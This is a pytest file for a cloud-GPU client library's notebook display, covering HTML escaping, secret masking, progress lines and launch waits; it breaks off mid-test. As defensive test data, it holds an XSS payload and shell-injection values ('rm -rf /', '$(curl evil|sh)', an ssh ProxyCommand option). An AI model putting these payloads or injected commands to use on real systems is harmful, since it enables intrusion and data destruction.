"""The notebook experience: HTML and text display, plain data, conveniences, wait progress."""

from __future__ import annotations

import copy
import io
import operator
import pickle
import re
from collections.abc import Iterator
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import attrs
import pytest
import responses
from IPython.lib.pretty import pretty

import lambdacloud
from lambdacloud import (
    Attachment,
    AttachmentDownload,
    AttachmentUpload,
    AuditEvent,
    Client,
    Filesystem,
    FirewallRule,
    FirewallRuleset,
    GeneratedSSHKey,
    GlobalFirewallRuleset,
    Image,
    Instance,
    InstanceStatusError,
    InstanceType,
    LaunchAbortedError,
    Region,
    ResourceList,
    SSHKey,
    Ticket,
    ValidationError,
    WaitProgress,
    _display,
    _secrets,
)
from lambdacloud._converter import make_converter, structure
from lambdacloud.instances import progress as _progress
from lambdacloud.testing import FakeClock, FakeLambdaCloud

from .conftest import API, API_KEY, instance_data, load

HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'
# A token as the API makes them (random hex): masking masks any 8-character run of it.
TOKEN = "9f1e2d3c4b5a69788796a5b4c3d2e1f0"


def parse(data: Any, cls: Any, *, strict: bool = True) -> Any:
    return structure(make_converter(strict=strict), data, cls, "a fixture")


def hostile_instance(**changes: Any) -> Instance:
    hostile = {
        "name": HOSTILE,
        "jupyter_token": TOKEN,
        "jupyter_url": f"https://jupyter-x.lambdaspaces.com/lab?token={TOKEN}",
        "tags": [{"key": "team", "value": "<b>ml</b>"}],
    }
    data = instance_data(**{**hostile, **changes})
    instance: Instance = parse(data, Instance, strict=False)  # a new status may come
    return instance


def samples() -> dict[str, Any]:
    """One object of every displayable public class, parsed from the fixtures."""
    generated = load("ssh_key_generated")["data"]
    return {
        "Instance": hostile_instance(),
        "InstanceType": parse(
            {
                **load("instance_types")["data"]["gpu_1x_a10"]["instance_type"],
                "regions_with_capacity": [{"name": "us-east-1", "description": "Virginia"}],
            },
            InstanceType,
        ),
        "Region": parse(load("regions")["data"][0], Region),
        "SSHKey": parse(load("ssh_keys")["data"][0], SSHKey),
        "GeneratedSSHKey": parse(generated, GeneratedSSHKey),
        "Filesystem": parse(load("filesystems")["data"][0], Filesystem),
        "Image": parse(load("images")["data"][0], Image),
        "FirewallRule": parse(load("firewall_rules")["data"][0], FirewallRule),
        "FirewallRuleset": parse(load("firewall_ruleset")["data"], FirewallRuleset),
        "GlobalFirewallRuleset": parse(
            load("firewall_ruleset_global")["data"], GlobalFirewallRuleset
        ),
        "AuditEvent": parse(load("audit_events_page1")["data"][0], AuditEvent),
        "Ticket": parse(load("ticket")["data"], Ticket),
        "Attachment": parse(load("attachment")["data"], Attachment),
        "AttachmentUpload": parse(load("attachment_initiated")["data"], AttachmentUpload),
        "AttachmentDownload": parse(load("attachment_download")["data"], AttachmentDownload),
        **acquire_events(),
    }


def acquire_events() -> dict[str, Any]:
    """One of each event an acquire reports."""
    return {
        "AcquireEvent": lambdacloud.AcquireEvent(elapsed=0.0),
        "CapacityRead": lambdacloud.CapacityRead(
            elapsed=1.0, reads=1, available=(("gpu_1x_a10", HOSTILE),)
        ),
        "LaunchAttempt": lambdacloud.LaunchAttempt(
            elapsed=1.5, instance_type="gpu_1x_a10", region="us-east-1", attempt=1
        ),
        "LaunchRefused": lambdacloud.LaunchRefused(
            elapsed=2.0,
            instance_type="gpu_1x_a10",
            region="us-east-1",
            reason="insufficient capacity",
            error=lambdacloud.InsufficientCapacityError(HOSTILE),
        ),
        "Launched": lambdacloud.Launched(elapsed=3.0, instance=hostile_instance()),
    }


SAMPLES = samples()
SECRETS = [
    TOKEN,
    SAMPLES["GeneratedSSHKey"].private_key,
    SAMPLES["AttachmentUpload"].upload_url,
    SAMPLES["AttachmentDownload"].download_url,
]


def displayable_public_classes() -> set[str]:
    return {
        name
        for name in lambdacloud.__all__
        if isinstance(cls := getattr(lambdacloud, name), type)
        and issubclass(cls, _display.Displayable)
    }


def assert_safe_html(markup: str) -> None:
    """Escaped, self-contained, themable: no script, no handler, no external asset."""
    lowered = markup.lower()
    assert "<script" not in lowered
    assert "javascript:" not in lowered
    assert not re.search(r"<[^>]+\son\w+\s*=", lowered)  # no event handler attribute
    assert not re.search(r"<[^>]*\b(src|href)\s*=", lowered)  # no asset, no link
    assert "@import" not in lowered
    assert "url(" not in lowered
    assert "var(--" in markup  # colours through CSS variables
    for secret in SECRETS:
        assert secret not in markup


#: A status as shown: its badge's tone, the glyph written before it, and the status itself.
STATUS = re.compile(
    r'<span class="lc-badge lc-(\w+)" style="white-space:nowrap">'
    r'<span class="lc-glyph" style="color:#[0-9a-f]{6}">(.)</span> ([^<]*)</span>'
)


def statuses(markup: str) -> list[tuple[str, str, str]]:
    return STATUS.findall(markup)


def test_every_displayable_class_has_a_sample() -> None:
    assert displayable_public_classes() - {"WaitProgress", "InstanceActions"} <= (
        set(SAMPLES)
        | {"ActionAvailability", "InstanceImage", "InstanceTypeSpecs", "FilesystemMount"}
        | {"User", "AuditResult", "TicketComment"}
    )


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_each_object_renders_as_a_safe_card_and_as_text(name: str) -> None:
    obj = SAMPLES[name]
    markup = obj._repr_html_()
    assert_safe_html(markup)
    assert '<table class="lc-card">' in markup
    assert '<caption style="text-align:left">' in markup
    text = pretty(obj)
    assert text.splitlines()[0].startswith(_display.cells.words(type(obj).__name__))
    for secret in SECRETS:
        assert secret not in text
        assert secret not in repr(obj)
        assert secret not in str(obj.to_dict())


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_each_kind_of_list_renders_as_one_table(name: str) -> None:
    obj = SAMPLES[name]
    listing = ResourceList([obj, obj], type(obj))
    markup = listing._repr_html_()
    assert_safe_html(markup)
    assert markup.count("<tr>") == 3  # the header and one row per item
    assert f"2 {_display.cells.plural(type(obj).__name__)}" in markup
    text = pretty(listing)
    # A list of instances ends with its burn rate.
    assert len(text.splitlines()) == 3 + (name == "Instance")


def test_a_hostile_name_is_escaped_everywhere() -> None:
    instance = hostile_instance()
    for markup in (instance._repr_html_(), ResourceList([instance])._repr_html_()):
        assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in markup
        assert "&lt;img src=x onerror=alert(1)&gt;" in markup
        assert_safe_html(markup)
    assert "team=&lt;b&gt;ml&lt;/b&gt;" in instance._repr_html_()


def test_an_instance_shows_what_matters_with_its_status_as_a_badge() -> None:
    instance = hostile_instance()
    row = ResourceList([instance])._repr_html_()
    for column in ("id", "name", "status", "type", "region", "ip", "price / hour"):
        assert re.search(f'<th class="lc-(text|num) lc-token" [^>]*scope="col">{column}</th>', row)
    assert ("good", "●", "active") in statuses(row)
    assert "$0.75" in row
    assert instance.ip
    assert instance.ip in row
    booting = ResourceList([hostile_instance(status="booting")])._repr_html_()
    assert statuses(booting) == [("busy", "◐", "booting")]
    unknown = ResourceList([hostile_instance(status="hibernating")])._repr_html_()
    assert statuses(unknown) == [("off", "○", "hibernating")]


def test_the_jupyter_token_is_masked_and_the_url_shown_without_it() -> None:
    instance = hostile_instance()
    card = instance._repr_html_()
    assert "https://jupyter-x.lambdaspaces.com/lab?…" in card
    assert "•••••• (hidden)" in card
    exported = instance.to_dict()
    assert "jupyter_token" not in exported
    assert exported["jupyter_url"] == "https://jupyter-x.lambdaspaces.com/lab?…"
    assert TOKEN not in str(ResourceList([instance]).to_dicts())
    assert TOKEN not in pretty(instance)


def test_an_instance_type_shows_gpu_specs_price_and_capacity() -> None:
    markup = ResourceList([SAMPLES["InstanceType"]])._repr_html_()
    for text in ("GPU", "vCPUs", "memory", "price / hour", "regions with capacity", "us-east-1"):
        assert text in markup
    assert "$0.75" in markup


def test_empty_lists_say_so() -> None:
    empty: ResourceList[Instance] = ResourceList([], Instance)
    assert "No instances." in empty._repr_html_()
    assert pretty(empty) == "[] (no instances)"
    assert "No SSH keys." in ResourceList([], SSHKey)._repr_html_()
    assert empty == []


def test_long_lists_show_the_first_rows_and_count_the_rest() -> None:
    many = ResourceList([hostile_instance(id=f"{n:032x}") for n in range(120)], Instance)
    markup = many._repr_html_()
    assert markup.count('<span class="lc-badge') == _display.MAX_ROWS
    assert "… 70 more (120 instances in all)" in markup
    assert "120 instances" in markup
    text = pretty(many)
    assert len(text.splitlines()) == _display.MAX_ROWS + 3
    assert text.splitlines()[-2] == "… 70 more (120 instances in all)"
    assert text.endswith("120 instances · $90.00/hour for 120 running or booting")


def test_an_instance_list_shows_its_burn_rate_and_a_card_what_it_cost() -> None:
    launched = [
        {"key": "lambdacloud:launched-at", "value": "2026-01-01T00:00:00Z"},
        {"key": "lambdacloud:expires-at", "value": "2026-01-01T02:00:00Z"},
        {"key": "lambdacloud:launch-token", "value": "0" * 32},
    ]
    running = parse(instance_data(tags=launched), Instance)
    gone = parse(instance_data(id="f" * 32, status="terminating"), Instance)
    markup = ResourceList([running, gone], Instance)._repr_html_()
    assert "2 instances · $0.75/hour for 1 running or booting" in markup
    card = pretty(running)
    assert "launched at         2026-01-01 00:00:00 UTC" in card
    assert "expires at          2026-01-01 02:00:00 UTC" in card
    assert "cost so far" in card
    assert "0" * 32 not in card  # the library's tags are bookkeeping, not shown
    assert "launched at" not in pretty(gone)


def test_a_list_stays_a_list() -> None:
    regions = ResourceList([SAMPLES["Region"], SAMPLES["Region"]], Region)
    assert isinstance(regions, list)
    assert regions == [SAMPLES["Region"], SAMPLES["Region"]]
    assert isinstance(regions[:1], ResourceList)
    assert regions[0] is SAMPLES["Region"]
    regions.append(SAMPLES["Region"])
    assert len(regions) == 3


def test_to_dict_and_to_dicts_give_plain_data() -> None:
    instance = hostile_instance()
    exported = instance.to_dict()
    assert exported["status"] == "active"
    assert type(exported["status"]) is str
    assert exported["region"] == {"name": "us-east-1", "description": "Virginia, USA"}
    assert exported["instance_type"]["specs"]["gpus"] == 1
    assert "_client" not in exported
    (row,) = ResourceList([instance]).to_dicts()
    assert row["region.name"] == "us-east-1"
    assert row["instance_type.specs.gpus"] == 1
    assert row["tags.team"] == "<b>ml</b>"
    (nested,) = ResourceList([instance]).to_dicts(flat=False)
    assert nested == exported
    generated = SAMPLES["GeneratedSSHKey"].to_dict()
    assert "private_key" not in generated
    assert generated["name"]


def test_displaying_never_touches_the_network(mocked: responses.RequestsMock) -> None:
    client = Client(api_key=API_KEY, max_retries=0)
    mocked.get(f"{API}/instances", json={"data": [instance_data()] * 3})
    listing = client.instances.list()
    calls = len(mocked.calls)
    listing._repr_html_()
    pretty(listing)
    listing.to_dicts()
    for instance in listing:
        instance._repr_html_()
        pretty(instance)
    assert len(mocked.calls) == calls
    assert isinstance(listing, ResourceList)


def test_ssh_command() -> None:
    instance = hostile_instance()
    assert instance.ssh_command() == f"ssh ubuntu@{instance.ip}"
    assert instance.ssh_command("root") == f"ssh root@{instance.ip}"
    assert (
        instance.ssh_command(identity_file="~/my keys/id_ed25519")
        == f"ssh -i '~/my keys/id_ed25519' ubuntu@{instance.ip}"
    )
    with pytest.raises(ValidationError, match="user"):
        instance.ssh_command("ubuntu; rm -rf /")
    with pytest.raises(ValidationError, match="identity_file"):
        instance.ssh_command(identity_file="")
    booting = hostile_instance(status="booting", ip=None)
    with pytest.raises(InstanceStatusError, match="no public ip"):
        booting.ssh_command()


class TestInstanceTypesForANotebook:
    @pytest.fixture
    def client(self, mocked: responses.RequestsMock) -> Iterator[Client]:
        mocked.get(f"{API}/instance-types", json=load("instance_types"))
        mocked.assert_all_requests_are_fired = False
        with Client(api_key=API_KEY, max_retries=0, rate_limit=False) as client:
            yield client

    def test_available_only(self, client: Client) -> None:
        every = client.instance_types.list()
        available = client.instance_types.list(available=True)
        assert available
        assert all(t.regions_with_capacity for t in available)
        assert [t.name for t in available] == [t.name for t in every if t.regions_with_capacity]
        assert len(available) < len(every)

    def test_sorted_by_price_or_name_or_gpus(self, client: Client) -> None:
        by_price = client.instance_types.list(sort_by="price")
        prices = [t.price_cents_per_hour for t in by_price]
        assert prices == sorted(prices)
        names = [t.name for t in client.instance_types.list(sort_by="name")]
        assert names == sorted(names)
        gpus = [t.specs.gpus for t in client.instance_types.list(sort_by="gpus")]
        assert gpus == sorted(gpus)
        assert isinstance(by_price, ResourceList)

    def test_a_bad_order_is_refused_before_any_request(
        self, client: Client, mocked: responses.RequestsMock
    ) -> None:
        with pytest.raises(ValidationError, match="sort_by"):
            client.instance_types.list(sort_by="cost")
        with pytest.raises(ValidationError, match="available"):
            client.instance_types.list(available="yes")  # type: ignore[arg-type]
        assert len(mocked.calls) == 0


def progress_states(*statuses: str) -> list[WaitProgress]:
    instance = hostile_instance(name="trainer")
    states = []
    for number, status in enumerate(statuses):
        current = parse(instance_data(id=instance.id, name="trainer", status=status), Instance)
        states.append(WaitProgress((current,), "active", 10.0 * number, number + 1))
    return states


class TestProgress:
    def test_a_terminal_sees_only_status_changes(self) -> None:
        stream = io.StringIO()
        show = _progress.TerminalProgress(stream)
        for state in progress_states("booting", "booting", "booting", "active"):
            show(state)
        lines = stream.getvalue().splitlines()
        short = hostile_instance().id[:8]
        assert lines == [
            f"trainer ({short}): booting, waiting for active",
            f"trainer ({short}): booting → active after 30 s",
        ]

    def test_a_notebook_sees_one_line_updated_in_place(self) -> None:
        shown: list[Any] = []
        updated: list[Any] = []

        class Handle:
            def update(self, line: Any) -> None:
                updated.append(line)

        def display(line: Any, *, display_id: bool) -> Handle:
            assert display_id is True
            shown.append(line)
            return Handle()

        show = _progress.NotebookProgress(display)
        for state in progress_states("booting", "booting", "active"):
            show(state)
        assert len(shown) == 1
        assert len(updated) == 2
        first, last = shown[0], updated[-1]
        assert "booting" in repr(first)
        assert "0 s" in repr(first)
        assert repr(last).startswith("Done waiting for active: trainer")
        assert repr(updated[0]).startswith("Waiting for active: trainer")
        markup = last._repr_html_()
        assert statuses(markup) == [("good", "●", "active")]
        assert "20 s" in markup
        assert "trainer" in markup

    def test_a_hostile_name_or_status_in_the_progress_line_stays_text(self) -> None:
        instance = hostile_instance(status=HOSTILE, name="\x1b[2J" + HOSTILE)
        line = _progress._Line(WaitProgress((instance,), HOSTILE, 1.0, 1))
        markup = line._repr_html_()
        assert_safe_html(markup)
        assert "&lt;script&gt;" in markup
        assert "\x1b" not in markup
        assert "\x1b" not in repr(line)
        stream = io.StringIO()
        _progress.TerminalProgress(stream)(WaitProgress((instance,), "active", 1.0, 1))
        assert "\x1b" not in stream.getvalue()

    def test_a_failed_wait_says_so_in_both_modes(self) -> None:
        (state,) = progress_states("booting")
        error = lambdacloud.WaitTimeoutError("gave up", instances=[])
        stream = io.StringIO()
        terminal = _progress.TerminalProgress(stream)
        terminal(state)
        terminal.stopped(error)
        assert (
            stream.getvalue()
            .splitlines()[-1]
            .startswith("Stopped (WaitTimeoutError) waiting for active: trainer")
        )
        updated: list[Any] = []

        class Handle:
            def update(self, line: Any) -> None:
                updated.append(line)

        notebook = _progress.NotebookProgress(lambda line, display_id: Handle())
        notebook(state)
        notebook.stopped(error)
        assert "Stopped (WaitTimeoutError) waiting for" in updated[-1]._repr_html_()

    def test_waits_show_progress_unless_told_not_to(
        self, monkeypatch: pytest.MonkeyPatch, mocked: responses.RequestsMock
    ) -> None:
        asked: list[Any] = []
        choose = _progress.reporter

        def recording(progress: Any) -> Any:
            asked.append(progress)
            return choose(progress)

        monkeypatch.setattr(_progress, "reporter", recording)
        mocked.get(f"{API}/instances/i", json={"data": instance_data(id="i")})
        mocked.assert_all_requests_are_fired = False
        client = Client(api_key=API_KEY, rate_limit=False)
        client.instances.wait_until_active("i")
        client.instances.wait_for_status("i", "active")
        client.instances.get("i").wait_until_active()
        client.instances.wait_until_active("i", progress=False)
        assert asked == [True, True, True, False]

    def test_the_display_is_chosen_by_where_the_code_runs(
        self, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        assert _progress.reporter(False) is None
        assert _progress.reporter(True) is None  # under pytest: no kernel, no terminal
        monkeypatch.setattr(_progress, "in_notebook", lambda: True)
        assert isinstance(_progress.reporter(True), _progress.NotebookProgress)
        monkeypatch.setattr(_progress, "in_notebook", lambda: False)
        monkeypatch.setattr(_progress, "_is_terminal", lambda stream: True)
        assert isinstance(_progress.reporter(True), _progress.TerminalProgress)
        seen: list[WaitProgress] = []
        assert _progress.reporter(seen.append) == seen.append

    def test_a_bad_progress_is_refused_before_any_request(
        self, mocked: responses.RequestsMock
    ) -> None:
        client = Client(api_key=API_KEY)
        with pytest.raises(ValidationError, match="progress"):
            client.instances.wait_until_active("i", progress="yes")  # type: ignore[arg-type]
        with pytest.raises(ValidationError, match="progress"):
            client.instances.launch(
                "gpu_1x_a10", ssh_key="k", region="us-east-1", wait=True, progress=1
            )  # type: ignore[arg-type]
        assert len(mocked.calls) == 0


class TestLaunchAndWait:
    @pytest.fixture
    def cloud(self) -> Iterator[FakeLambdaCloud]:
        with FakeLambdaCloud(clock=FakeClock(frozen=True), boot_seconds=90) as running:
            yield running

    def test_launch_and_wait_in_one_call(self, cloud: FakeLambdaCloud) -> None:
        client = cloud.client()
        client.ssh_keys.create("me")
        seen: list[WaitProgress] = []
        instance = client.instances.launch(
            "gpu_1x_a10", ssh_key="me", region="us-west-1", wait=True, progress=seen.append
        )
        assert instance.status == "active"
        assert instance.ip
        assert seen
        assert seen[-1].instance.status == "active"
        assert seen[0].instance.status == "booting"

    def test_an_instance_that_does_not_become_active_is_terminated(
        self, cloud: FakeLambdaCloud
    ) -> None:
        client = cloud.client()
        client.ssh_keys.create("me")
        with pytest.raises(LaunchAbortedError, match="did not become active") as raised:
            client.instances.launch(
                "gpu_1x_a10",
                ssh_key="me",
                region="us-west-1",
                wait=True,
                wait_timeout=30,
                progress=False,
            )
        assert raised.value.terminated is True
        assert isinstance(raised.value.__cause__, lambdacloud.WaitTimeoutError)
        (instance_id,) = raised.value.instance_ids
        assert client.instances.get(instance_id).status in ("terminating", "terminated")

    def test_an_interrupted_wait_terminates_the_instance_and_goes_on_interrupting(
        self, cloud: FakeLambdaCloud
    ) -> None:
        client = cloud.client()
        client.ssh_keys.create("me")

        def interrupt(state: WaitProgress) -> None:
            raise KeyboardInterrupt

        with pytest.raises(KeyboardInterrupt):
            client.instances.launch(
                "gpu_1x_a10", ssh_key="me", region="us-west-1", wait=True, progress=interrupt
            )
        (instance,) = client.instances.list()
        assert instance.status in ("terminating", "terminated")

    def test_a_bad_wait_timeout_is_refused_before_launching(self, cloud: FakeLambdaCloud) -> None:
        client = cloud.client()
        with pytest.raises(ValidationError, match="wait_timeout"):
            client.instances.launch(
                "gpu_1x_a10", ssh_key="me", region="us-west-1", wait=True, wait_timeout=0
            )
        with pytest.raises(ValidationError, match="wait"):
            client.instances.launch("gpu_1x_a10", ssh_key="me", wait="yes")  # type: ignore[arg-type]
        # checked even when there is no wait: a mistake is a mistake
        with pytest.raises(ValidationError, match="wait_timeout"):
            client.instances.launch("gpu_1x_a10", ssh_key="me", wait_timeout=-1)
        with pytest.raises(ValidationError, match="progress"):
            client.instances.launch("gpu_1x_a10", ssh_key="me", progress="yes")  # type: ignore[arg-type]
        assert cloud.count("POST", "/instance-operations/launch") == 0


def hostile_copy(obj: Any, seen: int = 0) -> Any:
    """``obj`` with a hostile text in every string field, nested objects included."""
    if seen > 4:
        return obj
    if isinstance(obj, list):
        return [hostile_copy(item, seen + 1) for item in obj]
    if isinstance(obj, tuple):
        return tuple(hostile_copy(item, seen + 1) for item in obj)
    if not attrs.has(type(obj)):
        return obj
    copied = copy.copy(obj)
    for field in attrs.fields(type(obj)):
        if field.name.startswith("_") or _secrets.kind_of(field):
            continue
        value = getattr(obj, field.name)
        if isinstance(value, str):
            value = f"{HOSTILE}\x1b[31m\r{field.name}"
        elif isinstance(value, dict):
            value = {HOSTILE: HOSTILE}
        else:
            value = hostile_copy(value, seen + 1)
        object.__setattr__(copied, field.name, value)  # past validators and frozenness
    return copied


def nested_values(obj: Any) -> list[Any]:
    found = []
    for field in attrs.fields(type(obj)):
        value = getattr(obj, field.name)
        for item in value if isinstance(value, (list, tuple)) else [value]:
            if isinstance(item, _display.Displayable):
                found += [item, *nested_values(item)]
    return found


NESTED = {type(v).__name__: v for sample in SAMPLES.values() for v in nested_values(sample)}


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_hostile_text_in_any_field_stays_text(name: str) -> None:
    hostile = hostile_copy(SAMPLES[name])
    texts = [
        field.name
        for field in attrs.fields(type(hostile))
        if isinstance(getattr(hostile, field.name), str)
        and not field.metadata.get("lambdacloud.secret")
    ]
    for markup in (hostile._repr_html_(), ResourceList([hostile])._repr_html_()):
        assert_safe_html(markup)
        assert "&lt;script&gt;" in markup or not texts
        assert "\x1b" not in markup
        assert "\r" not in markup
    for text in (pretty(hostile), pretty(ResourceList([hostile]))):
        assert "\x1b" not in text
        assert "\r" not in text


@pytest.mark.parametrize("name", sorted(NESTED))
def test_nested_values_render_on_their_own(name: str) -> None:
    value = NESTED[name]
    assert_safe_html(value._repr_html_())
    assert pretty(value).splitlines()[0].startswith(_display.cells.words(name))
    assert value._display_label()
    assert isinstance(value.to_dict(), dict)


def test_every_public_model_is_displayable() -> None:
    models = {
        name
        for name in lambdacloud.__all__
        if isinstance(cls := getattr(lambdacloud, name), type) and attrs.has(cls)
    }
    assert models
    assert models <= displayable_public_classes()
    assert {"User", "ActionAvailability", "InstanceTypeSpecs", "WaitProgress"} <= models
    assert {"ActionAvailability", "InstanceImage", "User", "TicketComment"} <= set(NESTED)


@pytest.mark.parametrize(
    "url",
    [
        "https://user:{token}@host.example/lab",
        "https://{token}@host.example/lab",
        "https://host.example/token/{token}/lab",
        "https://host.example/lab;token={token}",
        "https://host.example/lab#token={token}",
        "https://host.example/lab?token={token}",
    ],
)
def test_the_token_is_masked_wherever_the_url_carries_it(url: str) -> None:
    instance = hostile_instance(jupyter_url=url.format(token=TOKEN), hostname=f"h-{TOKEN}")
    shown = [
        instance._repr_html_(),
        pretty(instance),
        str(instance.to_dict()),
        str(ResourceList([instance]).to_dicts()),
        ResourceList([instance])._repr_html_(),
    ]
    for text in shown:
        assert TOKEN not in text
    assert "host.example" in instance._repr_html_()
    assert "user" not in str(instance.to_dict()["jupyter_url"])


def test_lists_stay_resource_lists_and_survive_copies() -> None:
    region = SAMPLES["Region"]
    regions = ResourceList([region], Region)
    # The operators themselves are under test: no unpacking here.
    added, radded = operator.add(regions, [region]), operator.add([region], regions)
    for made in (regions.copy(), added, radded, regions * 2, 2 * regions):
        assert isinstance(made, ResourceList)
        assert made._kind is Region
    assert added == [region, region]
    assert radded == [region, region]
    restored = pickle.loads(pickle.dumps(regions))
    assert restored == regions
    assert restored._kind is Region


def test_to_dicts_edge_cases() -> None:
    assert ResourceList([1, {"a": 1}]).to_dicts() == [{"value": 1}, {"a": 1}]
    rows = ResourceList([hostile_instance(tags=[]), hostile_instance()]).to_dicts()
    assert "tags" not in rows[0]  # an empty mapping adds no column
    assert rows[1]["tags.team"] == "<b>ml</b>"
    clash = ResourceList([{"a": {"b.c": 1}, "a.b": {"c": 2}}]).to_dicts()
    assert clash == [{"a.b.c": 1, "a.b": {"c": 2}}]  # the second stays nested: nothing lost


def test_one_item_is_counted_in_the_singular() -> None:
    assert ">1 instance</caption>" in ResourceList([hostile_instance()])._repr_html_()
    assert ">2 SSH keys</caption>" in (ResourceList([SAMPLES["SSHKey"]] * 2)._repr_html_())


def test_a_status_badge_is_themed_through_css_variables() -> None:
    markup = ResourceList([hostile_instance()])._repr_html_()
    assert "background: var(--lc-good)" in markup
    assert "--lc-good:" in markup


def test_an_unusable_ip_never_reaches_the_command() -> None:
    for ip in ("1.2.3.4 $(curl evil|sh)", "-oProxyCommand=touch /tmp/x"):
        with pytest.raises(lambdacloud.MalformedResponseError):
            hostile_instance(ip=ip).ssh_command()
    assert hostile_instance(ip="2001:db8::1").ssh_command() == "ssh ubuntu@2001:db8::1"
    path = Path("/keys/my key")
    assert hostile_instance().ssh_command(identity_file=path).startswith("ssh -i '/keys/my key' ")


class Cells(HTMLParser):
    """What a browser shows of a display with no stylesheet at all: the rows of its tables,
    each cell as its text, with the ``style`` attributes met along the way."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self.styles: list[tuple[str, str]] = []
        self.header_cells = 0
        self._cell: list[str] | None = None
        self._in_style = False

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        found = dict(attributes)
        if found.get("style"):
            self.styles.append((tag, str(found["style"])))
        if tag == "style":
            self._in_style = True
        elif tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self._cell = []
            self.header_cells += tag == "th"

    def handle_endtag(self, tag: str) -> None:
        if tag == "style":
            self._in_style = False
        elif tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append("".join(self._cell).strip())
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None and not self._in_style:
            self._cell.append(data)


def without_stylesheet(markup: str) -> Cells:
    """The markup as an untrusted notebook shows it: Jupyter drops every ``<style>``."""
    stripped = re.sub(r"<style>.*?</style>", "", markup, flags=re.DOTALL)
    assert "<style" not in stripped
    cells = Cells()
    cells.feed(stripped)
    return cells


def booting_and_active() -> ResourceList[Instance]:
    return ResourceList(
        [
            hostile_instance(id="a" * 32, name="trainer-0", status="active"),
            hostile_instance(id="b" * 32, name="trainer-1", status="booting", ip=None),
        ],
        Instance,
    )


def test_a_table_reads_without_its_stylesheet() -> None:
    # An untrusted notebook (reopened from disk) drops <style>: what is left is a real table
    # with header cells, each status written out after a glyph, numbers in cells of their own.
    shown = without_stylesheet(booting_and_active()._repr_html_())
    assert shown.rows == [
        ["id", "name", "status", "type", "region", "ip", "price / hour"],
        ["a" * 32, "trainer-0", "● active", "gpu_1x_a10", "us-east-1", "198.51.100.2", "$0.75"],
        ["b" * 32, "trainer-1", "◐ booting", "gpu_1x_a10", "us-east-1", "—", "$0.75"],
    ]
    assert shown.header_cells == 7
    card = without_stylesheet(SAMPLES["FirewallRule"]._repr_html_())
    assert card.rows[:2] == [["protocol", "tcp"], ["port range", "22"]]
    assert card.header_cells == len(card.rows)


def test_text_aligns_left_numbers_right_and_tokens_never_wrap() -> None:
    types = ResourceList([SAMPLES["InstanceType"]] * 2, InstanceType)
    markup = types._repr_html_()
    cells = re.findall(r'<(t[hd]) class="([^"]*)" style="([^"]*)"[^>]*>(.*?)</t[hd]>', markup)
    by_text = {text: (classes, style) for _, classes, style, text in cells}
    for numeric in (
        "GPUs",
        "vCPUs",
        "memory",
        "price / hour",
        "$0.75",
        "200 GiB",
        "1400 GiB",
        "30",
    ):
        assert by_text[numeric] == ("lc-num lc-token", "text-align:right;white-space:nowrap")
    for text in ("name", "gpu_1x_a10", "GPU", "A10 (24 GB PCIe)", "us-east-1"):
        assert by_text[text] == ("lc-text lc-token", "text-align:left;white-space:nowrap")
    # Every cell of a table carries its layout inline: the stylesheet may be gone.
    assert len(cells) == len(re.findall(r"<t[hd][ >]", markup))
    assert all("white-space:nowrap" in style for _, _, style, _ in cells)


def test_a_column_is_numeric_only_when_all_its_values_are_numbers() -> None:
    rows = [{"a": 1, "b": "x", "c": None}, {"a": None, "b": 2, "c": None}]
    markup = _display.tables.table_html("2 rows", ["a", "b", "c"], rows)
    heads = dict(
        (text, style)
        for style, text in re.findall(r'<th [^>]*style="([^"]*)"[^>]*>(\w)</th>', markup)
    )
    assert heads == {
        "a": "text-align:right;white-space:nowrap",
        "b": "text-align:left;white-space:nowrap",
        "c": "text-align:left;white-space:nowrap",
    }


@pytest.mark.parametrize(
    ("value", "number"),
    [
        (1, True),
        (1.5, True),
        (Decimal("1.29"), True),
        ("$1.29", True),
        ("$14,320.00", True),
        ("24 GiB", True),
        ("95 s", True),
        (True, False),
        ("198.51.100.2", False),
        ("gpu_1x_a10", False),
        ("2025-06-01 10:20:30 UTC", False),
        ("1x A10", False),
        (None, False),
    ],
)
def test_what_counts_as_a_number(value: Any, number: bool) -> None:
    assert _display.cells.is_number(value) is number


def test_cards_wrap_long_text_but_never_inside_a_token() -> None:
    card = hostile_instance(name="trainer")._repr_html_()
    assert re.search(
        r'<td class="lc-text lc-token" style="text-align:left;white-space:nowrap">'
        r"[0-9a-f]{32}</td>",
        card,
    )
    assert '<td class="lc-text" style="text-align:left">rebuild, restart, cold' in card
    assert re.search(r'<th class="lc-text lc-token" [^>]*scope="row">id</th>', card)


def test_wide_tables_scroll_instead_of_wrapping() -> None:
    markup = booting_and_active()._repr_html_()
    assert markup.startswith('<div class="lambdacloud-display"><style>')
    assert '<div class="lc-scroll" style="overflow-x:auto"><table class="lc-list">' in markup


#: What Jupyter's sanitizer keeps of an inline style in an untrusted notebook (JupyterLab's
#: allowlist, which accepts these values; classic Notebook keeps them too).
SURVIVING_STYLES = {
    "text-align": re.compile(r"left|right"),
    "white-space": re.compile(r"nowrap"),
    "overflow-x": re.compile(r"auto"),
    "color": re.compile(r"#[0-9a-f]{6}"),
}


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_inline_layout_uses_only_styles_a_sanitizer_keeps(name: str) -> None:
    obj = SAMPLES[name]
    for markup in (obj._repr_html_(), ResourceList([obj, obj])._repr_html_()):
        for _, style in without_stylesheet(markup).styles:
            for declaration in style.split(";"):
                prop, _, value = declaration.partition(":")
                assert SURVIVING_STYLES[prop].fullmatch(value), declaration


def specificity(selector: str) -> tuple[int, int, int]:
    """CSS specificity of the simple selectors style.css uses (ids, classes, elements)."""
    ids = selector.count("#")
    classes = len(re.findall(r"\.[\w-]+", selector))  # :not(.x) counts as its .x
    elements = len(re.findall(r"(?:^|[\s>+~])([a-z]+)\b", selector))
    return ids, classes, elements


def test_our_alignment_outweighs_jupyterlabs_table_rule() -> None:
    # JupyterLab right-aligns every cell with this rule; ours must win where <style> is kept.
